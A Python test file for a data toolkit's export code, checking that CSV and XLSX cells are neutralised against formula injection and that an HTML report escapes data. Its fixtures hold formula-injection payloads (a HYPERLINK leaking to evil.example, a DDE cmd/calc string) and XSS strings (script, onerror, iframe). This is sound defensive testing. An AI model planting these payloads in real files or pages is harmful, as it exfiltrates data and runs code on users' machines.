"""Every export a person opens is safe: no spreadsheet formula runs, no HTML from data is live.

Spreadsheet exports (CSV and XLSX) must not hold a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return (OWASP CSV injection) - such text gets a leading ``'`` - and no XLSX cell may be a
formula. Paths: the validation report (library and ``evalkit validate --report``), ``evalkit quarantine -o``,
the upload templates, ``evalkit score -o``, the dashboard's downloads, and the HTML report's workbook and CSV
zip; the HTML report escapes every string that came from data.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
from badinput.helpers import cli

from evalkit.safe_export import FORMULA_PREFIXES, safe_cell_text, safe_frame

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1", "=1+1"]
HTML_HOSTILE = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg/onload=alert(1)>",
                "javascript:alert(1)", "</td></tr></table><iframe src=//evil.example>", "&lt;b&gt;"]
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def _risky(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES) and not _NUMBER.match(text.strip())


def assert_csv_safe(data: bytes | str) -> int:
    """No cell of the CSV text could run as a formula; returns the number of cells looked at."""
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    n = 0
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            n += 1
            assert not _risky(cell), f"formula-like CSV cell {cell!r}"
    return n


def assert_xlsx_safe(data: bytes | Path) -> int:
    """No cell of the workbook is a formula or text that would run as one; returns the cells looked at."""
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    n = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is None:
                    continue
                n += 1
                assert c.data_type != "f", f"formula in {ws.title}!{c.coordinate}: {c.value!r}"
                if isinstance(c.value, str):
                    assert not _risky(c.value), f"formula-like text in {ws.title}!{c.coordinate}: {c.value!r}"
    return n


def _hostile_csv(folder: Path) -> Path:
    """A participants file whose ids, codes and dates are formula-like text (so all end up in reports)."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "participants.csv"
    rows = [["participant_id", "programme_id", "referral_date", "referral_source", "region_note"]]
    for i, h in enumerate(HOSTILE):
        rows.append([h, "P-N1" if i % 2 else h, h if i % 3 == 0 else "2025-01-02", h, h])
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


def test_safe_cell_text_covers_every_prefix() -> None:
    for h in HOSTILE:
        assert safe_cell_text(h) == "'" + h.replace("\r", "\n")
    # a lone carriage return inside a cell would end the CSV row: it is written as a line feed (quoted)
    assert safe_cell_text("ok\r=1+1") == "ok\n=1+1" and safe_cell_text("a\r\nb") == "a\nb"
    out = io.StringIO()
    safe_frame(pd.DataFrame({"x": ["ok\r=HYPERLINK(1)", "fine"]})).to_csv(out, index=False)
    assert_csv_safe(out.getvalue())
    out = io.StringIO()
    pd.DataFrame({"x": ["ok\r=HYPERLINK(1)", "fine"]}).to_csv(out, index=False)
    with pytest.raises(AssertionError):  # what the fix prevents: pandas leaves a lone CR unquoted
        assert_csv_safe(out.getvalue())
    assert safe_cell_text("M0001") == "M0001" and safe_cell_text(-3) == -3
    frame = safe_frame(pd.DataFrame({"=x": HOSTILE, "n": range(len(HOSTILE))}))
    assert list(frame.columns) == ["'=x", "n"] and all(v.startswith("'") for v in frame["'=x"])


def test_validation_report_exports(tmp_path: Path, capsys) -> None:  # noqa: ANN001
    """Library report_to_csv/xlsx and ``evalkit validate --report``: the hostile values are in the report, inert."""
    from evalkit.readers import read_file
    from evalkit.validation import report_to_csv, report_to_xlsx, validate

    src = _hostile_csv(tmp_path / "in")
    result = validate(read_file(src))
    assert result.report["value"].isin(HOSTILE).any()
    assert assert_csv_safe(report_to_csv(result.report, tmp_path / "r.csv").read_bytes()) > 0
    assert assert_xlsx_safe(report_to_xlsx(result.report, tmp_path / "r.xlsx")) > 0
    for name in ("cli.csv", "cli.xlsx"):
        code, _, _ = cli(capsys, "validate", src, "--report", tmp_path / name)
        assert code == 1
    assert "'=HYPERLINK" in (tmp_path / "cli.csv").read_text(encoding="utf-8-sig")
    assert_csv_safe((tmp_path / "cli.csv").read_bytes())
    assert_xlsx_safe(tmp_path / "cli.xlsx")


def test_quarantine_exports(tmp_path: Path, capsys) -> None:  # noqa: ANN001
    db = tmp_path / "q.sqlite"
    prog = tmp_path / "p" / "programmes.csv"
    prog.parent.mkdir()
    prog.write_text("programme_id,name,provider,format,mode,delivered_by\nP-N1,G,North,group,in_person,volunteer_peers\n")
    assert cli(capsys, "ingest", prog, "--provider", "North", "--db", db)[0] == 0
    code, out, _ = cli(capsys, "ingest", _hostile_csv(tmp_path / "in"), "--provider", "North", "--db", db)
    assert code in (0, 1) and "QUARANTINED" in out
    for suffix in ("csv", "xlsx"):
        target = tmp_path / f"fix.{suffix}"
        code, out, _ = cli(capsys, "quarantine", "--db", db, "-o", target)
        assert code == 0 and "Wrote" in out
        cells = assert_csv_safe(target.read_bytes()) if suffix == "csv" else assert_xlsx_safe(target)
        assert cells > 0
    text = (tmp_path / "fix.csv").read_text(encoding="utf-8")
    assert "'+cmd|" in text and "'@SUM(1+1)" in text  # the values are kept, made inert


def test_templates(tmp_path: Path, capsys) -> None:  # noqa: ANN001
    assert cli(capsys, "template", "--format", "xlsx", "-o", tmp_path / "t.xlsx")[0] == 0
    assert assert_xlsx_safe(tmp_path / "t.xlsx") > 0
    assert cli(capsys, "template", "--format", "csv", "-o", tmp_path / "t.zip")[0] == 0
    with zipfile.ZipFile(tmp_path / "t.zip") as z:
        for name in z.namelist():
            if name.endswith(".csv"):
                assert_csv_safe(z.read(name))


def test_scored_csv(tmp_path: Path, capsys) -> None:  # noqa: ANN001
    src = tmp_path / "measures.csv"
    rows = [["participant_id", "instrument", *[f"item_{i}" for i in range(1, 11)], "note"]]
    for h in HOSTILE:
        rows.append([h, "epds", h, *["1"] * 9, h])
    rows.append(["M1", "-epds", *["1"] * 10, "ok"])
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    src.write_text(buf.getvalue(), encoding="utf-8")
    code, out, _ = cli(capsys, "score", src, "-o", tmp_path / "scored.csv")
    assert code == 0 and "scored 8 questionnaires" in out
    text = (tmp_path / "scored.csv").read_text(encoding="utf-8")
    assert assert_csv_safe(text) > 0 and "'=HYPERLINK" in text and "'-epds" in text
    scored = pd.read_csv(tmp_path / "scored.csv", dtype=str)
    assert set(scored["score_status"]) == {"invalid"}  # the inert copies are still flagged, not scored


def test_dashboard_downloads() -> None:
    pytest.importorskip("streamlit")
    from dashboards import data
    from evalkit.canonical import REPORT_COLUMNS

    frame = pd.DataFrame({"participant_id": HOSTILE, "n": range(len(HOSTILE)), "=col": HOSTILE})
    assert_csv_safe(data.frame_bytes(frame, "csv"))
    assert_xlsx_safe(data.frame_bytes(frame, "xlsx"))
    report = pd.DataFrame({c: HOSTILE for c in REPORT_COLUMNS}).assign(source_row=2)
    assert_csv_safe(data.report_bytes(report, "csv"))
    assert_xlsx_safe(data.report_bytes(report, "xlsx"))


# --------------------------------------------------------------------------- the HTML report


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "iframe", "object", "embed", "img"):
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            if name.lower().startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.bad.append(f"<{tag} {name}={value!r}>")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


@pytest.fixture(scope="module")
def hostile_report():  # noqa: ANN201
    """The report on the shipped examples with every programme's id, name, provider and region made hostile."""
    pytest.importorskip("evalkit.report")
    from evalkit.data_source import example_tables
    from evalkit.report import build_report

    tables = {k: v.copy() for k, v in example_tables().items()}
    progs = tables["programmes"]
    evil = {pid: HTML_HOSTILE[i % len(HTML_HOSTILE)] + f" {i}" for i, pid in enumerate(progs["programme_id"])}
    for frame in tables.values():
        if "programme_id" in frame.columns:
            frame["programme_id"] = frame["programme_id"].map(lambda p: evil.get(p, p)).astype("string")
    progs = tables["programmes"]
    progs["name"] = [HOSTILE[i % len(HOSTILE)] + " " + HTML_HOSTILE[i % len(HTML_HOSTILE)] for i in range(len(progs))]
    progs["provider"] = [HTML_HOSTILE[(i + 1) % len(HTML_HOSTILE)] for i in range(len(progs))]
    progs["region"] = [HOSTILE[(i + 2) % len(HOSTILE)] for i in range(len(progs))]
    return build_report(tables, models=False, figures=False, generated_at="2025-06-01",
                        title='Report <script>alert("t")</script>'), evil


def test_html_report_escapes_every_string_from_data(hostile_report) -> None:  # noqa: ANN001
    report, evil = hostile_report
    parser = _Tags()
    parser.feed(report.html)
    assert parser.bad == [], parser.bad[:5]
    text = "".join(parser.text)
    shown = [v for v in evil.values() if v in text]
    assert shown, "the hostile programme ids should appear (as text) in the report"
    assert "<script>alert(1)</script>" not in report.html and "onerror=alert(1)>" not in report.html


def test_report_workbook_and_csv_zip_are_formula_safe(hostile_report, tmp_path: Path) -> None:  # noqa: ANN001
    report, _ = hostile_report
    assert assert_xlsx_safe(report.to_xlsx(tmp_path / "r.xlsx")) > 0
    with zipfile.ZipFile(report.to_csv_zip(tmp_path / "r.zip")) as z:
        assert sum(assert_csv_safe(z.read(n)) for n in z.namelist() if n.endswith(".csv")) > 0
